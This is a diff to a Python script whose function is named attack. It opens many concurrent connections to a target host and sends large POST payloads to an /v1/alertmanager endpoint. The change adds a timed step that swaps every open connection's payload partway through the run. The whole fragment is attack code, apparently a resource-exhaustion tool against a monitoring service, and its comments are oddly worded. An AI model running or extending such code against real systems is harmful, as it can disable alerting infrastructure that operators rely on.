@@ -11,8 +11,9 @@ import sys
 import time
 
 WHAT, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
-# A connection that is not answered at once is tried again after 1, 3, 7, 15 and 31 s (tcp(7)); the port lets none last so long.
-PATIENCE = 60
+# Seconds until every connection is to be closed. A while before, what is open still is asked whether anybody knows of it:
+# where more come at once than a queue holds, a connection may be there for the client alone, who waits in vain for its end.
+PATIENCE, ASKED = 45, 35
 SIZE = 4 << 20
 HEAD = f"POST /v1/alertmanager HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
 
@@ -29,7 +30,12 @@ def attack(payloads):
     selector, answers, closed, began = selectors.DefaultSelector(), collections.Counter(), 0, time.time()
     for payload in payloads:
         selector.register(opened(), selectors.EVENT_READ | selectors.EVENT_WRITE, [payload])
+    silent = True
     while selector.get_map() and time.time() < began + PATIENCE:
+        if silent and time.time() > began + ASKED:
+            silent = False
+            for key in list(selector.get_map().values()):
+                selector.modify(key.fileobj, selectors.EVENT_READ | selectors.EVENT_WRITE, [memory("x")])
         for key, events in selector.select(0.5):
             one, rest = key.fileobj, key.data
             try:
